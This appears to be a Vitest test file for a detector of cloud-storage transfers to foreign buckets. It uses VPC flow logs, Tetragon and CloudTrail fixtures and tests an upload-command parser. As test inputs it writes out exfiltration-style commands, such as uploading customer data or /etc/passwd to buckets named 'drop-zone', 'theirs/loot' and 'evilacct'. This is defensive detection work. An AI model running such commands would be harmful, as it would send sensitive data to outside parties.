import { describe, expect, it } from 'vitest';
import { storageUploads, storageUploadsInLine } from '../../src/analytics/network/cloud-cli.js';
import { networkConfig, runSources, tetragon, trail, vpc } from './helpers.js';

const T0 = Date.UTC(2024, 4, 6, 8, 0, 0);
const MIN = 60_000;

describe('cloud_storage_foreign_transfer on the fixtures (VPC flow logs, Tetragon, CloudTrail data events)', () => {
  it('positive: an upload command naming a bucket that is not ours while 600 MB go to S3, and CloudTrail writes to a foreign account’s bucket', async () => {
    const sources = [
      vpc('foreign-transfer-positive.vpc.log'),
      tetragon('foreign-transfer-positive.tetragon.jsonl'),
      trail('foreign-transfer-positive.cloudtrail.json'),
    ];
    const run = await runSources(sources, networkConfig());
    const alerts = run.of('cloud_storage_foreign_transfer');
    expect(alerts.map((a) => [a.dedupKey, a.severity]).sort()).toEqual([
      ['principal:arn:aws:sts::111122223333:assumed-role/etl-writer/botocore-session-1|s3://partner-drop-eu', 'critical'],
      ['prod-eu/data/etl-hourly|s3://drop-zone-7781', 'high'],
    ]);
    const etl = alerts.find((a) => a.dedupKey.startsWith('prod-eu/'));
    expect(etl?.attributes).toMatchObject({
      'aws.s3.destination.bucket': ['drop-zone-7781'],
      'outflow.storage.bytes': 600_000_000,
      'outflow.storage.owner': 'unknown',
    });
    expect(etl?.workload).toMatchObject({ namespace: 'data', workloadName: 'etl-hourly' });
    expect(etl?.time).toBe(T0 + 16 * MIN);
    expect(etl?.explanation.observed).toMatch(/^600 MB sent to cloud-storage ranges \(aws_vpc_flow 600 MB\), while an upload named s3:\/\/drop-zone-7781$/);
    expect(etl?.explanation.reasons?.[0]).toMatch(
      /^command at 2024-05-06T08:11:50.000Z: .*aws s3 cp \/tmp\/customers\.csv\.gz s3:\/\/drop-zone-7781\/2024\/ → drop-zone-7781 \(not in organization\.buckets/,
    );
    // Evidence: the Tetragon exec first, then the flows, largest first.
    expect(etl?.evidence[0]?.source).toBe('tetragon');
    expect(etl?.evidence.slice(1).every((e) => e.source === 'aws_vpc_flow')).toBe(true);
    const principal = alerts.find((a) => a.dedupKey.startsWith('principal:'));
    expect(principal?.attributes).toMatchObject({
      'aws.s3.destination.account_id': '999988887777',
      'outflow.storage.bytes': 160_000_000,
      'outflow.storage.owner': 'foreign',
    });
    expect(principal?.evidence.map((e) => e.source)).toEqual(['aws_cloudtrail', 'aws_cloudtrail', 'aws_cloudtrail', 'aws_cloudtrail']);
    expect(principal?.explanation.summary).toMatch(/to cloud storage of account 999988887777, outside the organisation: s3:\/\/partner-drop-eu\.$/);
    expect(run.deadLetter.entries()).toEqual([]);
  });

  it('negative: the backup to our bucket, an upload to a bucket CloudTrail shows is ours, a small foreign upload, a command that already exited', async () => {
    const sources = [
      vpc('foreign-transfer-negative.vpc.log'),
      tetragon('foreign-transfer-negative.tetragon.jsonl'),
      trail('foreign-transfer-negative.cloudtrail.json'),
    ];
    const run = await runSources(sources, networkConfig());
    expect(run.of('cloud_storage_foreign_transfer')).toEqual([]);
    expect(run.deadLetter.entries()).toEqual([]);
  });

  it('decides ownership when the window closes: the bucket owner learned from CloudTrail counts even when CloudTrail is delivered last', async () => {
    // CloudTrail (which names the owner of etl-extracts-learned) arrives after the flows and the command.
    const sources = [
      vpc('foreign-transfer-negative.vpc.log'),
      tetragon('foreign-transfer-negative.tetragon.jsonl'),
      trail('foreign-transfer-negative.cloudtrail.json'),
    ];
    const run = await runSources(sources, networkConfig(), { completion: 'immediate' });
    expect(run.of('cloud_storage_foreign_transfer')).toEqual([]);
    // Without that CloudTrail record, the bucket's owner is unknown and the same transfer is reported.
    const unknown = await runSources(sources.slice(0, 2), networkConfig());
    expect(unknown.of('cloud_storage_foreign_transfer').map((a) => a.attributes?.['outflow.storage.destinations'])).toEqual([['s3://etl-extracts-learned']]);
  });

  it('the minimum volume is a parameter', async () => {
    const sources = [
      vpc('foreign-transfer-negative.vpc.log'),
      tetragon('foreign-transfer-negative.tetragon.jsonl'),
      trail('foreign-transfer-negative.cloudtrail.json'),
    ];
    const run = await runSources(sources, networkConfig({ analytics: { cloud_storage_foreign_transfer: { params: { minBytes: 40_000_000 } } } }));
    expect(run.of('cloud_storage_foreign_transfer').map((a) => [a.dedupKey, a.attributes?.['outflow.storage.bytes']])).toEqual([
      ['prod-eu/data/etl-hourly|s3://drop-zone-7781', 50_000_000],
    ]);
  });
});

describe('upload commands', () => {
  it('aws s3 cp / sync / mv: the destination bucket, options skipped', () => {
    expect(storageUploads(['aws', 's3', 'cp', '/tmp/a.gz', 's3://drop/x/'])).toEqual([
      { tool: 'aws', provider: 'aws', bucket: 'drop', destination: 's3://drop/x/' },
    ]);
    expect(storageUploads(['/usr/local/bin/aws', '--profile', 'p', 's3', 'sync', '--exclude', '*.tmp', '--delete', '/data', 's3://b2'])).toMatchObject([
      { bucket: 'b2' },
    ]);
    expect(storageUploads(['aws', 's3', 'cp', '--recursive', 's3://ours/data', 's3://theirs/loot'])).toMatchObject([{ bucket: 'theirs' }]);
    expect(storageUploads(['aws', 's3api', 'put-object', '--bucket', 'drop', '--key', 'k', '--body', '/etc/passwd'])).toMatchObject([
      { bucket: 'drop', destination: 's3://drop/k' },
    ]);
  });

  it('downloads and listings are not uploads', () => {
    expect(storageUploads(['aws', 's3', 'cp', 's3://theirs/tool', '/tmp/tool'])).toEqual([]);
    expect(storageUploads(['aws', 's3', 'ls', 's3://theirs'])).toEqual([]);
    expect(storageUploads(['aws', 'ec2', 'describe-instances'])).toEqual([]);
    expect(storageUploads(['gsutil', 'cp', 'gs://theirs/x', '.'])).toEqual([]);
  });

  it('gsutil, gcloud storage, azcopy, rclone, s5cmd', () => {
    expect(storageUploads(['gsutil', '-m', 'cp', '-r', '/data', 'gs://drop-gcs/'])).toMatchObject([{ tool: 'gsutil', provider: 'gcp', bucket: 'drop-gcs' }]);
    expect(storageUploads(['gcloud', 'storage', 'cp', 'a', 'gs://g2/x'])).toMatchObject([{ tool: 'gcloud', bucket: 'g2' }]);
    expect(storageUploads(['azcopy', 'copy', '/data', 'https://evilacct.blob.core.windows.net/loot?sv=2022&sig=x'])).toMatchObject([
      { tool: 'azcopy', provider: 'azure', bucket: 'evilacct/loot', destination: 'https://evilacct.blob.core.windows.net/loot' },
    ]);
    expect(storageUploads(['rclone', 'copy', '/data', 'remote:bucket-x/path'])).toMatchObject([
      { tool: 'rclone', provider: 'rclone:remote', bucket: 'bucket-x' },
    ]);
    expect(storageUploads(['rclone', 'sync', '--progress', '/data', ':s3:bucket-y'])).toMatchObject([{ provider: 'aws', bucket: 'bucket-y' }]);
    expect(storageUploads(['s5cmd', '--numworkers', '8', 'cp', '/data/*', 's3://b5/'])).toMatchObject([{ tool: 's5cmd', bucket: 'b5' }]);
  });

  it('unwraps shells, lists, pipelines, env and sudo prefixes, quotes', () => {
    expect(storageUploads(['sh', '-c', 'tar czf /tmp/a.tgz /data && AWS_PROFILE=x aws s3 cp /tmp/a.tgz "s3://drop zone/a"'])).toMatchObject([
      { bucket: 'drop zone' },
    ]);
    expect(storageUploadsInLine("sudo -E env X=1 aws s3 cp '/tmp/a b' s3://q/ ; echo done")).toMatchObject([{ bucket: 'q' }]);
    expect(storageUploadsInLine('bash -lc "gsutil cp /x gs://g/ | tee log"')).toMatchObject([{ bucket: 'g' }]);
    expect(storageUploads(['aws s3 cp /tmp/x s3://one-string/'])).toMatchObject([{ bucket: 'one-string' }]);
  });

  it('never throws on odd input', () => {
    for (const input of ['', '"unterminated', "'", '\\', 'aws', 'aws s3', 'aws s3 cp', 'rclone copy', 'azcopy copy a', 'sh -c', '&& || ; |']) {
      expect(() => storageUploadsInLine(input)).not.toThrow();
      expect(storageUploadsInLine(input)).toEqual([]);
    }
    expect(storageUploads([])).toEqual([]);
  });
});
